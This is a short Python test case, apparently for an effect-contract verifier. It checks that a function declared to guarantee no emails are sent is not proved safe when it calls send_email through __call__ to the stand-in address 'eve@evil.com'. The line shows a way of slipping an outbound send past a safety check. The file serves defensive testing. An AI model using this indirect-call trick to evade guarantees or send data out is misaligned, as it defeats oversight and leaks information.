# not proved: calling through __call__
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    send_email.__call__("eve@evil.com", "x")
